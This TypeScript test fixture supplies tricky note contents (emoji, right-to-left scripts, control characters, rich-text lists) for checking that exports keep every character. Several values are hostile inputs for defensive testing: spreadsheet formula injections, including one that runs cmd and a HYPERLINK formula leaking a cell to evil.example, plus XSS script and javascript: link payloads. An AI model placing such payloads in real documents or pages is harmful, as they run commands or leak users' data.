/**
 * Notes that exports get wrong: marks and lists, long texts, emoji of several characters,
 * scripts that run from the right, what a spreadsheet would run and what a page would show
 * as markup. And what tells whether every word of them is in a text.
 */
import { cleanText } from '../../shared/document/cleanText.ts'
import type { PlainRecord } from '../../shared/document/records.ts'
import {
	type RichMark,
	type RichNode,
	type RichText,
	toPlainText,
	toRichText,
} from '../../shared/document/richText.ts'
import { noteRecord } from './noteRecord.ts'

const LONG_SENTENCES = 40

/** 3,000 characters in sentences that can be told apart. */
const long = Array.from(
	{ length: LONG_SENTENCES },
	(_, n) => `Lause ${n + 1}: yhteiskehittäminen jatkuu, ja näkökulma ${n + 1} on sovittu yhdessä.`,
).join(' ')

const PLAIN: Readonly<Record<string, string>> = {
	long,
	family: 'Perheet 👨‍👩‍👧‍👦 ja 👩🏽‍🚀, sydän ❤️‍🔥, numero 1️⃣',
	flags: 'Liput 🇫🇮🇸🇪🇪🇪 ja 🏴󠁧󠁢󠁳󠁣󠁴󠁿 sekä 🏳️‍🌈',
	arabic: 'نعمل معًا بين القطاعات المختلفة من أجل مدينة أفضل، في عام 2026',
	hebrew: 'אנחנו עובדים יחד למען עיר טובה יותר (2026)',
	mixed: 'Työryhmä (مجموعة العمل) kokoontuu עם כולם Turussa 12.5.',
	chinese: '我们跨部门合作，共同建设更美好的城市。𠮷野家',
	cyrillic: 'Мы работаем вместе ради города',
	greek: 'Συνεργαζόμαστε για μια καλύτερη πόλη',
	latin: 'Ääkköset åäöÅÄÖ, šž ŠŽ, čř, ñ, ß, ł, ő',
	word: 'kansalaisjärjestöyhteistyösopimusneuvottelukuntavaltuutettui',
	noBreak: '100\u00a0000\u00a0euroa, 25\u202f%, s.\u00a012\u2060–\u206014',
	soft: 'yhteis\u00adkehittämis\u00adympäristö\u00adsuunnittelu',
	decomposed: 'yo\u0308llinen pa\u0308a\u0308llekka\u0308isyys A\u030abossa',
	controls: 'ennen\u0000\u0007jälkeen\vuusi\u2028rivi\u0085kolmas',
	lines: 'ensimmäinen rivi\n\nkolmas rivi\n  sisennetty\tsarkain',
	spaces: '  alussa ja  välissä   kaksi  ',
	formula: '=1+1',
	command: "=cmd|'/C calc'!A0",
	hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"klikkaa")',
	plus: '+1+cmd()',
	wide: '＝1+2',
	hiddenFormula: ' \u200b=SUM(A1:A9)',
	lineFormula: 'viaton\n=2+3',
	minus: '- ensin tämä',
	phone: '+358 40 123 4567',
	percent: '-5 %',
	mention: '@Anna katso tämä',
	apostrophe: '\'lainattu\' ja "kaksois"; pilkku, puolipiste',
	html: '<script>alert(1)</script><img src=x onerror=alert(2)> & &amp; &#65;',
	xml: ']]> <![CDATA[ <?xml?> <!-- kommentti -->',
	markdown:
		'# ei otsikko *ei lihava* _ei kursiivi_ `ei koodi` [ei linkki](http://x.example) ![k](y)',
	markdownLines: '- ei kohta\n1. ei numero\n> ei lainaus\n| a | b |\n---\n```\n~~~\n    neljä',
	escapes: 'C:\\temp\\uusi \\* {rtf} %d %s _x0041_ \\u0041',
	entity: '&lt;b&gt;lihava&lt;/b&gt; &nbsp; &copy;',
	dates: '1.2.2026',
	number: '0012345678901234567890',
	truth: 'TRUE',
	scientific: '1E5',
	link: 'javascript:alert(1) ja https://example.org/?a=1&b=2#c',
}

const text = (words: string, ...marks: RichMark[]): RichNode => ({
	type: 'text',
	text: words,
	...(marks.length > 0 && { marks }),
})
const mark = (type: string): RichMark => ({ type })
const linked = (href: string): RichMark => ({ type: 'link', attrs: { href } })
const paragraph = (...content: RichNode[]): RichNode => ({ type: 'paragraph', content })
const item = (...content: RichNode[]): RichNode => ({ type: 'listItem', content })

const RICH: Readonly<Record<string, readonly RichNode[]>> = {
	bold: [
		paragraph(text('yksi '), text('lihava', mark('bold')), text(' sana, ')),
		paragraph(text('puolik'), text('sana', mark('bold')), text('inen*')),
	],
	marks: [
		paragraph(
			...[text('kursiivi', mark('italic')), text(' yli', mark('strike'))],
			...[text(' koodi`ssa', mark('code')), text(' molemmat ', mark('bold'), mark('italic'))],
		),
		paragraph(text('korostettu', mark('highlight')), text(' alle', mark('underline'))),
		paragraph(
			text('turvallinen linkki', linked('https://example.org/a_(b)?c=<d>')),
			text(' vaarallinen linkki', linked('javascript:alert(1)')),
		),
	],
	lists: [
		paragraph(text('Luettelo:')),
		{
			type: 'bulletList',
			content: [
				item(paragraph(text('ensimmäinen kohta')), {
					type: 'orderedList',
					attrs: { start: 3 },
					content: [
						item(paragraph(text('sisempi kolmas'))),
						item(paragraph(text('sisempi neljäs'))),
					],
				}),
				item(paragraph(text('toinen kohta')), paragraph(text('ja sen toinen kappale'))),
			],
		},
	],
	heading: [
		{ type: 'heading', attrs: { level: 2 }, content: [text('Otsikko lapussa')] },
		{ type: 'blockquote', content: [paragraph(text('lainattua tekstiä'))] },
		{ type: 'codeBlock', content: [text('let x = `1`\n\n```\nlet y = 2')] },
		{ type: 'horizontalRule' },
		paragraph(text('rivi'), { type: 'hardBreak' }, text('vaihtuu')),
	],
}

export interface NastyNote {
	id: string
	/** As a participant's program may have written it. */
	richText: RichText
	/** Its words as every text format has them, a line a block. */
	text: string
}

export const NASTY_NOTES: readonly NastyNote[] = [
	...Object.entries(PLAIN).map(([id, words]): [string, RichText] => [id, toRichText(words)]),
	...Object.entries(RICH).map(([id, content]): [string, RichText] => [
		id,
		{ type: 'doc', content: [...content] },
	]),
].map(([id, richText]) => ({
	id: `shape:nasty-${id}`,
	richText,
	text: cleanText(toPlainText(richText)),
}))

/** As records, spread over these parents in turn. @param meta of the nth: a stamp, say */
export function nastyRecords(
	parents: readonly string[],
	meta: (n: number) => object = () => ({}),
): PlainRecord[] {
	return NASTY_NOTES.map(({ id, richText }, n) => {
		const parentId = parents[n % parents.length] ?? 'page:board'
		const record = noteRecord(id, '', { parentId, index: `a${n + 10}V`, meta: meta(n) })
		const place = { x: 20, y: 20 + 220 * Math.floor(n / parents.length) }
		return { ...record, ...place, props: { ...record.props, richText } }
	})
}

/**
 * What's left to compare when white space, soft hyphens and signs without width are gone,
 * which typesetting may change.
 */
export function bare(words: string): string {
	return cleanText(words)
		.normalize('NFC')
		.replace(/[\s\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/gu, '')
}

/** Notes with a line of which not every character stands in a text, in order. @returns their ids and lines */
export function linesMissingIn(
	words: string,
	notes: readonly Pick<NastyNote, 'id' | 'text'>[] = NASTY_NOTES,
): string[] {
	const said = bare(words)
	return notes.flatMap(({ id, text: its }) =>
		its
			.split('\n')
			.filter((line) => !said.includes(bare(line)))
			.map((line) => `${id}: ${line}`),
	)
}
